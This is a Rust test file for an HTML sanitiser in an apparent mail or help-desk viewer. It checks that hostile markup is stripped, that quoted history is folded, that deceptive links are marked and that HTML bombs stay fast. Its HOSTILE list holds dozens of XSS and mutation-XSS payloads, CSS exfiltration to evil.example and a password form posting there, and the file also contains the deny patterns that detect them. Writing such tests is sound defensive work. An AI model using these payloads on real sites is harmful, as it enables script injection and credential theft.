//! Hostile documents, and honest ones.

#![allow(clippy::unwrap_used, reason = "a test ends where something is missing")]

use std::time::Instant;

use proptest::prelude::*;

use super::{Clean, Pictures, Wanted, clean, says_more, tags};

fn shown(html: &str) -> Clean {
    clean(html, Wanted::default())
}

/// Every element with its attributes, as a scanner of our output sees them: it is written in one form only.
fn elements(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    for piece in html.split('<').skip(1) {
        if piece.starts_with('/') {
            continue;
        }
        let name: String = piece.chars().take_while(|c| c.is_ascii_alphanumeric()).collect();
        let mut attributes = Vec::new();
        let mut rest = &piece[name.len()..];
        while let Some(after) = rest.strip_prefix(' ') {
            let Some((key, value)) = after.split_once("=\"") else { break };
            let Some((value, after)) = value.split_once('"') else { panic!("{html}") };
            attributes.push((key.to_owned(), value.to_owned()));
            rest = after;
        }
        assert!(rest.starts_with('>'), "a tag is written oddly: <{piece}");
        found.push((name, attributes));
    }
    found
}

/// A document with the attributes of each element in the order of their names.
fn in_order(html: &str) -> String {
    let mut out = html.to_owned();
    for (name, attributes) in elements(html) {
        let write = |attributes: &[(String, String)]| {
            attributes.iter().map(|(key, value)| format!(" {key}=\"{value}\"")).collect::<Vec<_>>().concat()
        };
        let mut sorted = attributes.clone();
        sorted.sort();
        if sorted != attributes {
            out = out.replace(&format!("<{name}{}>", write(&attributes)), &format!("<{name}{}>", write(&sorted)));
        }
    }
    out
}

/// Nothing is in it that is not allowed.
fn check(clean: &Clean) {
    for (name, attributes) in elements(&clean.html) {
        assert!(tags::known(&name).is_some_and(|known| known == name), "<{name}> in {}", clean.html);
        for (key, value) in attributes {
            let ours = name == "a" && matches!(key.as_str(), "rel" | "target" | tags::GOES);
            assert!(ours || tags::has_attribute(&name, &key), "{key} of <{name}> in {}", clean.html);
            let value = value.to_lowercase();
            match key.as_str() {
                "href" => {
                    assert!(["http:", "https:", "mailto:", "tel:"].iter().any(|s| value.starts_with(s)), "{value}");
                }
                "src" => assert!(value.starts_with("data:image/") || value.starts_with('/'), "{value}"),
                "style" => {
                    for bad in ["url", "expression", "position", "import", "behavior", "javascript", "@", "\\"] {
                        assert!(!value.contains(bad), "{value}");
                    }
                }
                _ => {}
            }
        }
    }
    let sheet = clean.sheet.to_lowercase();
    for bad in ["<", "url(", "@import", "expression(", "position:", "behavior", "@font-face", "\\"] {
        assert!(!sheet.contains(bad), "{bad} in {sheet}");
    }
}

/// Vectors of our own, one for each way that we know of.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{0}>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img\tsrc=x\nonerror\r=\u{c}alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src=x onerror\u{0}=alert(1)>",
    "<body onload=alert(1)><p>x",
    "<svg onload=alert(1)><p>x</p></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><iframe><a title=\"</iframe><img src onerror=alert(1)>\">test",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript&colon;alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"//evil.example\">x</a><a href=\"/desk/tickets/1/closure\">x</a><a href=\"?remote=1\">x</a>",
    "<a href=\"blob:https://x/1\">x</a><a href=\"view-source:x\">y</a><a href=\"filesystem:x\">z</a>",
    "<base href=\"https://evil.example/\"><a href=\"x\">x</a>",
    "<base target=\"_top\"><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\"><meta charset=utf-7>+ADw-script+AD4-",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe><iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example/x.swf><applet code=x>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=//evil.example/x formaction=//evil.example autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1)><keygen autofocus onfocus=alert(1)>",
    "<video poster=javascript:alert(1) src=//evil.example/v><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee><select onfocus=alert(1) autofocus><option>x</select>",
    "<template><img src=x onerror=alert(1)></template><slot onclick=x>y</slot>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"background:url('https://evil.example/p.gif')\">x</p>",
    "<p style=\"width:expre/**/ssion(alert(1))\">x</p><p style=\"width:\\65xpression(alert(1))\">x</p>",
    "<p style=\"behavior:url(x.htc);-moz-binding:url(x)\">x</p>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">x</p>",
    "<p style='color:red;&#x62;ehavior:url(x)'>x</p><p style=\"color:red&quot;&gt;&lt;script&gt;\">x</p>",
    "<style>@import url(https://evil.example/x.css);p{background:url(https://evil.example/p)}</style><p>x",
    "<style>p{color:red}</style ><style></sTyLe><img src=x onerror=alert(1)></style>",
    "<style>input[value^=\"a\"]{background:url(//evil.example/a)}@font-face{src:url(//evil.example/f)}</style>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<style>x{content:'</style><script>alert(1)</script>'}</style>",
    "<table background=https://evil.example/t.png><td background=//evil.example/x>x</table>",
    "<img src=https://evil.example/p.gif srcset=\"https://evil.example/q.gif 2x\" lowsrc=//evil.example dynsrc=//evil.example>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\"><img src=\"data:text/html,<script>alert(1)</script>\">",
    "<picture><source srcset=https://evil.example/x><img src=https://evil.example/y></picture>",
    "<!--><img src=x onerror=alert(1)>--><!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!-- never ends <img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--[if mso]><script>alert(1)</script><![endif]--><![if !mso]><p>x</p><![endif]>",
    "<?php echo '<script>alert(1)</script>' ?><%= x %><? <script>alert(1)</script> ?>",
    "<p/onclick=alert(1)//x>y</p><p =onclick=alert(1)>y</p><p \"onclick=alert(1)\">y</p>",
    "<p title='\"><script>alert(1)</script>'>x</p><p title=`onclick=alert(1)`>x</p>",
    "<p class=\"x&quot; onclick=&quot;alert(1)\" id='a b\"'>x</p>",
    "<a href=\"https://good.example\" data-goes=\"bank.example\" target=_top rel=opener ping=//evil.example>x</a>",
    "<div data-hx-get=/desk hx-get=/desk hx-on:load=alert(1)>x</div><desk-draft name=x>y</desk-draft>",
    "<plaintext><script>alert(1)</script>",
    "<xml><x:script xmlns:x=http://www.w3.org/1999/xhtml>alert(1)</x:script></xml>",
    "<html xmlns:v='urn:v'><v:image src=https://evil.example/p /><v:shape onclick=x>y</v:shape><o:p>z</o:p>",
    "<a href='https://x.example/\"onmouseover=\"alert(1)'>x</a>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<b><p title=\"</b><img src=x onerror=alert(1)>\"></b>",
    "<table><td><img src=x onerror=alert(1)></table><tr><td onclick=x>y",
    "\u{feff}\u{202e}<img src=x onerror=alert(1)>\u{0}",
    "<IMG SRC=`javascript:alert(1)`><IMG SRC=\"jav&#x09;ascript:alert(1);\">",
    "<<script>alert(1)//<</script>",
    "<img src=\"cid:x\" onload=\"fetch('//evil.example')\" usemap=#m><map name=m><area href=javascript:alert(1)></map>",
];

#[test]
fn line_59_nothing_hostile_passes() {
    for html in HOSTILE {
        let clean = shown(html);
        check(&clean);
        let lower = clean.html.to_lowercase();
        for bad in
            ["<script", "onerror=", "onload=", "onclick=", "javascript:", "evil.example/", "<iframe", "<form", "<style"]
        {
            let harmless = lower.replace("&lt;", "").replace("title=", "");
            assert!(!harmless.contains(bad) || !elements_say(&clean.html, bad), "{bad} of {html} left {lower}");
        }
        assert_eq!(in_order(&shown(&clean.html).html), in_order(&clean.html), "{html}");
    }
}

/// Whether an element or attribute says it, and not text or a title.
fn elements_say(html: &str, bad: &str) -> bool {
    elements(html).iter().any(|(name, attributes)| {
        format!("<{name}") == bad
            || attributes.iter().any(|(key, value)| {
                format!("{key}=") == bad || (matches!(key.as_str(), "href" | "src" | "style") && value.contains(bad))
            })
    })
}

#[test]
fn line_59_what_people_write_stays() {
    let html = "<h1>Title</h1><p>One <b>bold</b> <a href=\"https://desk.example/x?a=1&amp;b=2\">link</a></p>\
        <ul><li>one<li>two</ul><table><tr><td colspan=2>cell<td>next</table><p>a<p>b<br>c";
    let clean = shown(html).html;
    for kept in [
        "<h1>Title</h1>",
        "<b>bold</b>",
        "x?a=1&amp;b=2",
        "<li>one</li><li>two</li>",
        "<td colspan=\"2\">cell</td><td>",
    ] {
        assert!(clean.contains(kept), "{kept} is missing in {clean}");
    }
    assert!(clean.contains("<p>a</p><p>b<br>c</p>"), "{clean}");
    assert!(clean.contains("target=\"_blank\"") && clean.contains("rel=\"noopener noreferrer nofollow\""));
}

#[test]
fn line_58_what_office_programs_add_is_left_out() {
    let html = "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\"><head><!--[if gte mso 9]><xml><o:x>96</o:x></xml><![endif]-->\
        <style><!-- p.MsoNormal {margin:0cm;font-size:11.0pt;mso-fareast-language:EN-US} @page WordSection1 {size:21cm} --></style></head>\
        <body lang=EN-GB link=\"#0563C1\"><div class=WordSection1><p class=MsoNormal>Hello<o:p></o:p></p>\
        <![if !vml]><img width=10 height=10 src=\"cid:a\"><![endif]><!--[if !mso]><!--><p>Shown</p><!--<![endif]--></div></body></html>";
    let clean = shown(html);
    check(&clean);
    assert!(!clean.html.contains("o:p") && !clean.html.contains("96") && !clean.html.contains("[if"), "{}", clean.html);
    assert!(clean.html.contains("<p class=\"MsoNormal\">Hello</p>") && clean.html.contains("<p>Shown</p>"));
    assert_eq!(clean.sheet, "p.MsoNormal{margin:0cm;font-size:11.0pt;}");
    assert!(!clean.has_colours);
}

#[test]
fn line_59_pictures_from_elsewhere_are_counted_and_wait() {
    let html = "<img src=https://x.example/a.png alt=A><img src=http://x.example/p.gif width=1 height=1><img src=cid:l@x>\
        <table background=\"https://x.example/b.png\"><tr><td>x</table>";
    let mut pictures = Pictures::default();
    pictures.add(Some("l@x"), "logo.png", "/desk/tickets/1/files/2/logo.png".to_owned());
    let first = clean(html, Wanted { pictures: pictures.clone(), ..Wanted::default() });
    check(&first);
    assert_eq!(first.blocked, 2);
    assert!(first.html.contains("alt=\"A\"") && first.html.contains("src=\"/desk/tickets/1/files/2/logo.png\""));
    let asked = clean(html, Wanted { pictures, remote: true, ..Wanted::default() });
    assert_eq!(asked.blocked, 0);
    assert!(
        asked.html.contains("src=\"https://x.example/a.png\"")
            && asked.html.contains("src=\"https://x.example/p.gif\"")
    );
    assert!(!asked.html.contains("http://") && !asked.html.contains("b.png"));
}

#[test]
fn line_59_a_link_that_says_another_place_is_marked() {
    let goes = |html: &str| {
        let clean = shown(html).html;
        let (_, after) = clean.split_once("data-goes=\"")?;
        Some(after.split('"').next().unwrap().to_owned())
    };
    assert_eq!(goes("<a href=https://evil.example/x>https://bank.example/login</a>").as_deref(), Some("evil.example"));
    assert_eq!(goes("<a href=https://evil.example/x><b>www.bank.example</b></a>").as_deref(), Some("evil.example"));
    assert_eq!(goes("<a href=https://evil.example>bank&#46;example</a>").as_deref(), Some("evil.example"));
    assert_eq!(
        goes("<a href=https://bank.example@evil.example>https://bank.example</a>").as_deref(),
        Some("evil.example")
    );
    for hidden in ["ht&Tab;tps://evil.example", "https://evil.example&bsol;.bank.example", "https://evil.exam\0ple"] {
        assert_eq!(goes(&format!("<a href={hidden}>https://bank.example</a>")).as_deref(), Some("evil.example"));
    }
    for honest in [
        "<a href=https://www.bank.example/x>bank.example</a>",
        "<a href=https://login.bank.example>https://bank.example</a>",
        "<a href=https://track.example/1>Read more</a>",
        "<a href=https://files.example/1>invoice.pdf</a>",
        "<a href=mailto:ana@bank.example>ana@lindenhof.example</a>",
        "<a href=https://track.example/1>e.g.</a>",
    ] {
        assert_eq!(goes(honest), None, "{honest}");
    }
}

#[test]
fn line_56_the_history_is_folded_where_it_is_marked() {
    let folded = |html: &str| {
        let clean = clean(html, Wanted { fold: Some("Earlier".to_owned()), ..Wanted::default() });
        check(&clean);
        clean
            .html
            .split_once("<details><summary>Earlier</summary>")
            .map(|(before, after)| (before.to_owned(), after.to_owned()))
    };
    for html in [
        "<div dir=ltr>New</div><div class=\"gmail_quote gmail_quote_container\"><div>On Monday Ben wrote:</div><blockquote>Old</blockquote></div>",
        "<p>New</p><blockquote type=cite><p>Old</p></blockquote><br>",
        "<p>New</p><div class=moz-cite-prefix>Am Montag schrieb Ben:</div><blockquote type=\"cite\">Old</blockquote>",
        "<div class=WordSection1><p>New</p><div><div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm'><p>From: Ben</p></div></div><p>Old</p></div>",
        "<div>New</div><div id=appendonsend></div><hr style='width:98%'><div id=divRplyFwdMsg>From: Ben</div><div>Old</div>",
        "<div>New</div><div id=x_mail-editor-reference-message-container><div>From: Ben</div>Old</div>",
    ] {
        let (before, after) = folded(html).unwrap_or_else(|| panic!("{html} is not folded"));
        assert!(
            before.contains("New") && !before.contains("Old") && after.contains("Old"),
            "{html}: {before} | {after}"
        );
        assert!(!before.contains("From: Ben"), "{before}");
    }
    for html in [
        "<blockquote type=cite>First?</blockquote><p>Yes.</p><blockquote type=cite>Second?</blockquote><p>No.</p>",
        "<div class=gmail_quote>---------- Forwarded message ---------<br>From: Ben<br>All of it</div>",
        "<p>See below.</p><div class=gmail_quote>---------- Forwarded message ---------<br>From: Ben<br>All of it</div>",
        "<p>Nothing quoted</p>",
    ] {
        assert_eq!(folded(html), None, "{html}");
    }
}

#[test]
fn line_53_a_mail_is_shown_as_html_when_that_says_more() {
    for (html, text) in [
        ("<p>Look: <img src=cid:a width=300></p>", "Look:"),
        ("<table><tr><td>1<td>2</table>", "1 2"),
        ("<p>a</p><ul><li>b</ul>", "a\n* b"),
        ("<p>Please <span style='color:red'>do not</span></p>", "Please do not"),
        ("<p>Open <a href=https://x.example/1>this page</a></p>", "Open this page"),
        ("<p style='background:yellow'>Note</p>", "Note"),
        ("<font color=red>Red</font>", "Red"),
        ("<img src=cid:a>", ""),
    ] {
        assert!(says_more(html, text), "{html}");
    }
    for (html, text) in [
        ("<p class=MsoNormal><span style='font-size:11.0pt;font-family:Calibri;color:black'>Hello</span></p>", "Hello"),
        ("<div dir=ltr>Hello<br><b>all</b></div>", "Hello\nall"),
        ("<p>See <a href=\"https://x.example/1\">https://x.example/1</a></p>", "See https://x.example/1"),
        ("<p>Hello</p><img src=https://x.example/p width=1 height=1>", "Hello"),
        ("<p>Hello</p><p>-- </p><table><tr><td>Ana<td>Lima</table>", "Hello"),
        ("<p>Hello</p><div class=gmail_quote><table><tr><td>1<td>2</table></div>", "Hello"),
        ("<table><tr><td>Only one cell</table>", "Only one cell"),
    ] {
        assert!(!says_more(html, text), "{html}");
    }
}

#[test]
fn line_53_what_stands_between_cells_is_in_a_cell() {
    let clean = shown("<table> <tr>&nbsp;<td>a</td>b &amp; c<td>d</table>");
    assert_eq!(clean.html, "<table> <tbody><tr><td>a</td><td>b &amp; c</td><td>d</td></tr></tbody></table>");
}

#[test]
fn line_56_bombs_of_html_take_no_time() {
    // As much as a mail may have; less where nothing is optimised.
    let size = if cfg!(debug_assertions) { 60_000 } else { 2_000_000 };
    let many = |piece: &str| piece.repeat(size / piece.len());
    let numbered = |before: &str, after: &str| {
        let mut all = String::new();
        for n in 0.. {
            all.push_str(before);
            all.push_str(&n.to_string());
            all.push_str(after);
            if all.len() > size {
                return all;
            }
        }
        unreachable!("it grows")
    };
    let bombs = [
        ("deep", many("<div>")),
        ("deep lists", many("<ul><li>")),
        ("deep tables", many("<table><tr><td>")),
        ("fonts", numbered("<p><font a=", ">")),
        ("bold", numbered("<p><b id=a", ">x")),
        ("links", many("<a href=https://x.example/>x")),
        ("comments", many("<!--")),
        ("attributes", format!("<p {}>x", numbered("a", "=1 "))),
        ("quotes", many("<a \"")),
        ("entities", many("&amp;&#1;&nosuch;")),
        ("styles", many("<style>p{color:red}</style>")),
        ("open styles", many("<style>")),
        ("scripts", many("<script></script>")),
        ("brackets", many("<")),
        ("ends", many("</div></p></table></b>")),
        ("css", format!("<p style=\"{}\">x", many("color:red;a:((((([[[{{{"))),
        ("sheet", format!("<style>{}</style>x", many("a{b:c;"))),
        ("words", many("x ")),
        ("blockquotes", many("<blockquote type=cite>x")),
        ("cells", format!("<table>{}", many("<td>x"))),
        ("images", many("<img src=cid:a>")),
        ("misnested", many("<b><i></b></i><p>")),
        ("ampersands", many("&amp;")),
        ("no entities", many("&#;")),
        ("signs of the second page of Latin", many("\u{a7}")),
        ("ampersands between cells", format!("<table>{}", many("<tr>&amp;"))),
        ("tables and signs", many("<table><")),
        ("signs in a late table", format!("{}<table>{}", "<br>".repeat(39_000), many("&#1;&lt;"))),
        ("ampersands of a link", format!("<a href=\"https://x.example/?{}\">x", many("&"))),
        ("ampersands of a style", format!("<p style=\"font-family:'{}'\">x", many("&"))),
    ];
    for (name, html) in bombs {
        let started = Instant::now();
        let clean = clean(&html, Wanted { fold: Some("Earlier".to_owned()), ..Wanted::default() });
        let took = started.elapsed();
        says_more(&html, "x");
        assert!(clean.html.len() < html.len() * 8 + 100_000, "{name} grew to {}", clean.html.len());
        assert!(took.as_secs() < 30, "{name} took {took:?}");
    }
}

fn markup() -> impl Strategy<Value = String> {
    let tag = prop::sample::select(vec![
        "p",
        "div",
        "span",
        "b",
        "i",
        "table",
        "tr",
        "td",
        "a",
        "img",
        "ul",
        "li",
        "font",
        "body",
        "blockquote",
        "style",
        "script",
        "svg",
        "math",
        "o:p",
        "h1",
        "br",
        "pre",
        "form",
        "select",
        "template",
        "title",
        "details",
        "center",
        "mtext",
    ]);
    let attribute = prop::sample::select(vec![
        "",
        " style=\"color:red;position:fixed\"",
        " href=javascript:x",
        " href='https://x.example/'",
        " src=cid:a",
        " src=https://x.example/p",
        " onclick=alert(1)",
        " class=gmail_quote",
        " color=red",
        " type=cite",
        " bgcolor=#eee",
        " width=10",
        " style='background:url(x)'",
        " title='<b>'",
        " id=\"a\"",
        " =",
        " '",
        " \"",
    ]);
    let text = prop::sample::select(vec![
        "text",
        "&lt;b&gt;",
        "&#60;script>",
        "<!--",
        "-->",
        "<![if !mso]>",
        "]]>",
        "p{color:red}",
        "@import 'x';",
        " ",
        "\u{0}",
        "www.bank.example",
        "<",
        "&",
        "&nbsp;",
        "\u{202e}",
    ]);
    let piece = (tag, attribute, text, 0..4u8).prop_map(|(tag, attribute, text, kind)| match kind {
        0 => format!("<{tag}{attribute}>"),
        1 => format!("</{tag}>"),
        2 => text.to_owned(),
        _ => format!("<{tag}{attribute}>{text}</{tag}>"),
    });
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn line_59_whatever_comes_only_what_is_allowed_goes_out_and_stays_as_it_is(html in markup()) {
        let once = shown(&html);
        check(&once);
        prop_assert_eq!(in_order(&shown(&once.html).html), in_order(&once.html));
        let folded = clean(&html, Wanted { fold: Some("Earlier".to_owned()), ..Wanted::default() });
        check(&folded);
        says_more(&html, "text");
    }

    #[test]
    fn line_59_noise_does_no_harm(html in "[<>/a-z \"'=&;!#-]{0,300}") {
        check(&shown(&html));
    }
}
